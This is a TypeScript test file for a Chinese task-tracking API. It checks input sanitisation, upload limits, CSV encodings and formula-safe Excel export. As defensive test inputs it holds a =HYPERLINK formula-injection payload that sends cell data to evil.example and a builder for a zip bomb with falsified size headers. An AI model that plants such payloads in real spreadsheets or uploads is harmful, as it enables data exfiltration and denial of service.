/**
 * Text, files and exports against a hostile or careless client: control characters and lone
 * surrogates are a 400 at the edge (and a row error in an import), never a wedged item or a 500;
 * formulas in an office's text stay text in the exported ledger; zip bombs and junk are a 413 or
 * a 400; CSVs saved as GBK or UTF-16 import as they are.
 */
import ExcelJS from 'exceljs';
import iconv from 'iconv-lite';
import JSZip from 'jszip';
import crypto from 'node:crypto';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { farDeadline } from './dates';
import { newCampaign, office, startHarness, uniq, unitWithToken, type Harness } from './harness';

let h: Harness;
const s = uniq();
const unitName = `市住建局文本${s}`;
let unit: Awaited<ReturnType<typeof unitWithToken>>;

beforeAll(async () => {
  h = await startHarness();
  unit = await unitWithToken(h, unitName);
});
afterAll(() => h?.close());

const post = (url: string, payload: unknown, headers: Record<string, string> = office) => h.app.inject({ method: 'POST', url, payload: payload as object, headers });
const upload = (campaignId: string, body: string | Buffer, q = '', type = 'text/csv') =>
  h.app.inject({ method: 'POST', url: `/api/v1/campaigns/${campaignId}/import${q}`, headers: { ...office, 'content-type': type }, payload: body });
const csv = (rows: string[][], header = '序号,类别,整改措施,牵头单位,配合单位,整改时限') => [header, ...rows.map((r) => r.map((c) => `"${c.replace(/"/g, '""')}"`).join(','))].join('\r\n');

async function newItem(campaignId: string, extra: Record<string, unknown> = {}) {
  const res = await post(`/api/v1/campaigns/${campaignId}/items`, { items: [{ number: uniq(), content: '排查整改', deadline: farDeadline(), leadUnits: [unit.id], ...extra }] });
  expect(res.statusCode, res.body).toBeLessThan(300);
  return res.json().items[0].id as string;
}

const expectInvalidText = (res: { statusCode: number; json(): any; body: string }, path: string) => {
  expect(res.statusCode, res.body).toBe(400);
  expect(res.json()).toMatchObject({ code: 'INVALID_TEXT', details: [{ path }] });
  expect(res.json().message).toContain('文本含有不可用的控制字符或无效字符');
};

describe('text with NUL, control characters or lone surrogates', () => {
  it('is a 400 at once on report-progress, and the item still takes a valid report after', async () => {
    const campaignId = await newCampaign(h);
    const id = await newItem(campaignId);
    expect((await post(`/api/v1/items/${id}/acknowledge`, {}, unit.headers)).statusCode).toBe(200);
    for (const text of ['a\u0000b', 'a\uD800b', 'x\uDC00', 'bell\u0007']) {
      const t = Date.now();
      expectInvalidText(await post(`/api/v1/items/${id}/report-progress`, { text, percent: 8 }, unit.headers), 'body.text');
      expect(Date.now() - t).toBeLessThan(2000);
    }
    // tabs, newlines and a well-formed surrogate pair (an emoji) are text like any other
    const ok = await post(`/api/v1/items/${id}/report-progress`, { text: '已完成\t第一阶段\r\n😀', percent: 9 }, unit.headers);
    expect(ok.statusCode, ok.body).toBe(200);
    expect(ok.json()).toMatchObject({ progressPercent: 9 });
  });

  it('is a 400 naming the field in item content, a unit name, a reassigned unit, a principal name, a query string', async () => {
    const campaignId = await newCampaign(h);
    expectInvalidText(
      await post(`/api/v1/campaigns/${campaignId}/items`, { items: [{ number: '1', content: 'a\u0000b', deadline: farDeadline(), leadUnits: [unit.id] }] }),
      'body.items.0.content',
    );
    expectInvalidText(await post('/api/v1/units', { name: `单位\u0000${s}`, kind: 'department' }), 'body.name');
    expectInvalidText(await post('/api/v1/units', { name: `单位${s}`, kind: 'department', aliases: ['\uD83D'] }), 'body.aliases.0');
    const id = await newItem(campaignId);
    expectInvalidText(await post(`/api/v1/items/${id}/reassign`, { leadUnits: [`市水利局\u0000${s}`] }), 'body.leadUnits.0');
    expectInvalidText(await post('/api/v1/principals', { role: 'unit', name: '联络员\u0000', unitId: unit.id }), 'body.name');
    expectInvalidText(await h.app.inject({ method: 'GET', url: `/api/v1/items?campaignId=${campaignId}&status=%00`, headers: office }), 'querystring.status');
    expectInvalidText(await h.app.inject({ method: 'GET', url: '/api/v1/units?kind=county%01', headers: office }), 'querystring.kind');
    // the item was never touched: it still takes actions
    expect((await post(`/api/v1/items/${id}/acknowledge`, {}, unit.headers)).statusCode).toBe(200);
  });

  it('cannot wedge an item even when it gets past the edge: the recorded event is scrubbed', async () => {
    const campaignId = await newCampaign(h);
    const id = await newItem(campaignId);
    const actor = { role: 'unit' as const, name: '联络员\u0000', unitId: unit.id };
    await h.app.items.act(id, 'acknowledge', {}, actor);
    const t = Date.now();
    const state = await h.app.items.act(id, 'reportProgress', { text: 'a\u0000b\uD800', percent: 8 }, actor);
    expect(state).toMatchObject({ progressPercent: 8 });
    expect(Date.now() - t).toBeLessThan(5000);
    const detail = await h.app.inject({ method: 'GET', url: `/api/v1/items/${id}`, headers: office });
    expect(detail.statusCode).toBe(200);
    await expect.poll(async () => (await h.sql`select payload->>'text' as text, actor_name from item_events where item_id = ${id} and type = 'reportProgress'`)[0]).toEqual({
      text: 'ab\uFFFD',
      actorName: '联络员',
    });
    // and the item goes on
    expect((await post(`/api/v1/items/${id}/report-progress`, { text: '继续推进', percent: 20 }, unit.headers)).statusCode).toBe(200);
  });

  it('bounds strings and arrays in any body', async () => {
    const res = await post('/api/v1/units', { name: 'x'.repeat(100_001), kind: 'department' });
    expect(res.statusCode).toBe(400);
    expect(res.json()).toMatchObject({ code: 'INPUT_TOO_LARGE', details: [{ path: 'body.name', message: expect.stringContaining('longer than 100000') }] });
    // even where no schema looks (a key zod would strip): lists and nesting are bounded
    const list = await post('/api/v1/units', { name: `单位${uniq()}`, kind: 'department', extra: Array.from({ length: 10_001 }, () => 1) });
    expect(list.json()).toMatchObject({ code: 'INPUT_TOO_LARGE', details: [{ path: 'body.extra', message: expect.stringContaining('more than 10000 elements') }] });
    let deep: unknown = 'x';
    for (let i = 0; i < 40; i++) deep = [deep];
    expect((await post('/api/v1/units', { name: `单位${uniq()}`, kind: 'department', extra: deep })).json().details[0].message).toContain('nested deeper than 32');
  });

  it('in a CSV cell is a row error in the dry run and the real run, never a 500', async () => {
    const campaignId = await newCampaign(h);
    const file = csv([
      ['1', '类别', '正常的一行', unitName, '', farDeadline()],
      ['2', '类别', 'a\u0000b', unitName, '', farDeadline()],
    ]);
    for (const q of ['?dryRun=true', '']) {
      const res = await upload(campaignId, file, q);
      expect(res.statusCode, res.body).toBe(400);
      expect(res.json()).toMatchObject({ code: 'IMPORT_REJECTED' });
      expect(res.json().errors).toEqual([{ row: 3, column: '整改措施', value: 'ab', reason: expect.stringContaining('NUL') }]);
    }
    const list = await h.app.inject({ method: 'GET', url: `/api/v1/items?campaignId=${campaignId}`, headers: office });
    expect(list.json().items).toEqual([]);
  });
});

describe('the exported ledger', () => {
  it('keeps formulas an office or a unit wrote as text (Text format, quotePrefix), numbers as numbers', async () => {
    const campaignId = await newCampaign(h, { title: `=1+1 专项 ${uniq()}` });
    const formulas = ['=HYPERLINK("http://evil.example/?x="&A1,"点此")', '+1+1', '-5', '@SUM(1)', '＝1+1'];
    const file = csv(formulas.map((f, i) => [`F${i}`, '@SUM(1)', f, unitName, '', farDeadline()]));
    expect((await upload(campaignId, file)).statusCode).toBe(200);
    const res = await h.app.inject({ method: 'GET', url: `/api/v1/campaigns/${campaignId}/ledger.xlsx`, headers: office });
    expect(res.statusCode).toBe(200);

    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(res.rawPayload as unknown as ArrayBuffer);
    const ws = wb.worksheets[0]!;
    const found: string[] = [];
    ws.eachRow((row) => {
      const number = row.getCell(1).value;
      if (typeof number !== 'string' || !number.startsWith('F')) return;
      const content = row.getCell(3);
      expect(typeof content.value).toBe('string'); // a string, never { formula }
      expect(content.numFmt).toBe('@');
      expect(row.getCell(2).value).toBe('@SUM(1)');
      expect(row.getCell(2).numFmt).toBe('@');
      expect(row.getCell(1).numFmt).not.toBe('@'); // "F0": plain text, untouched
      expect(typeof row.getCell(12).value).toBe('number'); // progress: a number
      found.push(content.value as string);
    });
    expect(found.sort()).toEqual([...formulas].sort());
    expect(ws.getCell('A1').numFmt).toBe('@'); // the title starts with "="
    // Excel's own marker for "typed with a leading apostrophe": kept as text when edited
    const styles = await (await JSZip.loadAsync(res.rawPayload)).file('xl/styles.xml')!.async('string');
    expect(styles).toMatch(/<xf[^>]*numFmtId="49"[^>]*quotePrefix="1"/);
  });
});

describe('import files', () => {
  const sheetXml = (filler: string) =>
    `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>${filler}</t></is></c></row></sheetData></worksheet>`;
  async function bomb(size: number): Promise<Buffer> {
    const zip = new JSZip();
    zip.file('[Content_Types].xml', '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>');
    zip.file('xl/workbook.xml', '<?xml version="1.0"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheets><sheet name="S" sheetId="1" r:id="rId1" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"/></sheets></workbook>');
    zip.file('xl/worksheets/sheet1.xml', sheetXml('a'.repeat(size)));
    return zip.generateAsync({ type: 'nodebuffer', compression: 'DEFLATE', compressionOptions: { level: 9 } });
  }

  it('answers 413 quickly to a zip bomb .xlsx, whether its directory tells the size or lies', async () => {
    const campaignId = await newCampaign(h);
    const file = await bomb(40 * 1024 * 1024);
    expect(file.length).toBeLessThan(1024 * 1024);
    let t = Date.now();
    const honest = await upload(campaignId, file, '', 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
    expect(honest.statusCode, honest.body).toBe(413);
    expect(honest.json()).toMatchObject({ code: 'FILE_TOO_LARGE', limits: { unpackedBytes: 32 * 1024 * 1024, rows: 20_000 } });
    expect(honest.json().message).toContain('32 MiB');
    expect(Date.now() - t).toBeLessThan(3000);

    // The central directory says 100 bytes: the real size is counted while inflating.
    const liar = Buffer.from(file);
    for (let i = liar.indexOf(Buffer.from([0x50, 0x4b, 0x01, 0x02])); i >= 0; i = liar.indexOf(Buffer.from([0x50, 0x4b, 0x01, 0x02]), i + 4)) liar.writeUInt32LE(100, i + 24);
    for (let i = liar.indexOf(Buffer.from([0x50, 0x4b, 0x03, 0x04])); i >= 0; i = liar.indexOf(Buffer.from([0x50, 0x4b, 0x03, 0x04]), i + 4)) liar.writeUInt32LE(100, i + 22);
    t = Date.now();
    const lying = await upload(campaignId, liar, '', 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
    expect(lying.statusCode, lying.body).toBe(413);
    expect(Date.now() - t).toBeLessThan(3000);
  });

  it('answers 413 to an .xlsx with more cells than an import reads, before parsing them', async () => {
    const campaignId = await newCampaign(h);
    const zip = new JSZip();
    zip.file('xl/workbook.xml', '<workbook/>');
    const rows = Array.from({ length: 4100 }, (_, r) => `<row r="${r + 1}">${Array.from({ length: 50 }, (_, c) => `<c r="R${r + 1}C${c + 1}"><v>${c}</v></c>`).join('')}</row>`);
    zip.file('xl/worksheets/sheet1.xml', `<worksheet><sheetData>${rows.join('')}</sheetData></worksheet>`);
    const file = await zip.generateAsync({ type: 'nodebuffer', compression: 'DEFLATE' });
    const t = Date.now();
    const res = await upload(campaignId, file, '?dryRun=true', 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
    expect(res.statusCode, res.body).toBe(413);
    expect(res.json()).toMatchObject({ code: 'FILE_TOO_LARGE', limits: { cells: 200_000 } });
    expect(Date.now() - t).toBeLessThan(2000);
  });

  it('answers 400 to "PK" and random bytes, and to an old .xls', async () => {
    const campaignId = await newCampaign(h);
    const junk = Buffer.concat([Buffer.from('PK'), crypto.randomBytes(4096)]);
    const res = await upload(campaignId, junk, '?dryRun=true', 'application/octet-stream');
    expect(res.statusCode, res.body).toBe(400);
    expect(res.json()).toMatchObject({ code: 'INVALID_FILE', messageZh: expect.stringContaining('不是有效的 .xlsx 文件') });
    const xls = Buffer.concat([Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]), crypto.randomBytes(512)]);
    expect((await upload(campaignId, xls, '?dryRun=true', 'application/octet-stream')).json()).toMatchObject({ code: 'INVALID_FILE' });
  });

  it('answers 413 to more rows than an import takes', async () => {
    const campaignId = await newCampaign(h);
    const rows = Array.from({ length: 20_001 }, (_, i) => `${i + 1},类别,内容,${unitName},,长期坚持`);
    const res = await upload(campaignId, ['序号,类别,整改措施,牵头单位,配合单位,整改时限', ...rows].join('\n'), '?dryRun=true');
    expect(res.statusCode, res.body).toBe(413);
    expect(res.json()).toMatchObject({ code: 'FILE_TOO_LARGE' });
    const big = await upload(campaignId, Buffer.alloc(21 * 1024 * 1024, 0x41), '?dryRun=true');
    expect(big.statusCode, big.body).toBe(413);
    expect(big.json().message).toContain('at most 20 MiB');
  });

  it('reads CSVs saved as GBK, UTF-16 LE/BE and UTF-8 with a BOM', async () => {
    const rows = [
      ['1', '再排查再巩固', '严格进行排查，发现问题立即整改', unitName, '', farDeadline()],
      ['2', '小额信贷', '成立工作专班（“两个总结”）', unitName, '', '长期坚持'],
    ];
    const text = csv(rows);
    const files: [string, Buffer][] = [
      ['GBK', iconv.encode(text, 'gbk')],
      ['GB18030', iconv.encode(text, 'gb18030')],
      ['UTF-16LE BOM', Buffer.concat([Buffer.from([0xff, 0xfe]), iconv.encode(text, 'utf-16le')])],
      ['UTF-16BE BOM', Buffer.concat([Buffer.from([0xfe, 0xff]), iconv.encode(text, 'utf-16be')])],
      ['UTF-16LE', iconv.encode(text, 'utf-16le')],
      ['UTF-8 BOM', Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(text)])],
    ];
    for (const [name, file] of files) {
      const campaignId = await newCampaign(h);
      const res = await upload(campaignId, file);
      expect(res.statusCode, `${name}: ${res.body}`).toBe(200);
      expect(res.json().created).toEqual(['1', '2']);
      const items = (await h.app.inject({ method: 'GET', url: `/api/v1/items?campaignId=${campaignId}`, headers: office })).json().items;
      expect(items.map((i: { content: string }) => i.content).sort(), name).toEqual([rows[0]![2], rows[1]![2]].sort());
    }
  });

  it('says which encoding it read when the header still does not match', async () => {
    const campaignId = await newCampaign(h);
    const res = await upload(campaignId, iconv.encode('编号,内容\r\n1,x', 'gbk'), '?dryRun=true');
    expect(res.statusCode).toBe(400);
    const reasons = res.json().errors.map((e: { reason: string }) => e.reason);
    expect(reasons[0]).toContain('read as GB18030');
    expect(reasons[0]).toContain('CSV UTF-8');
  });
});
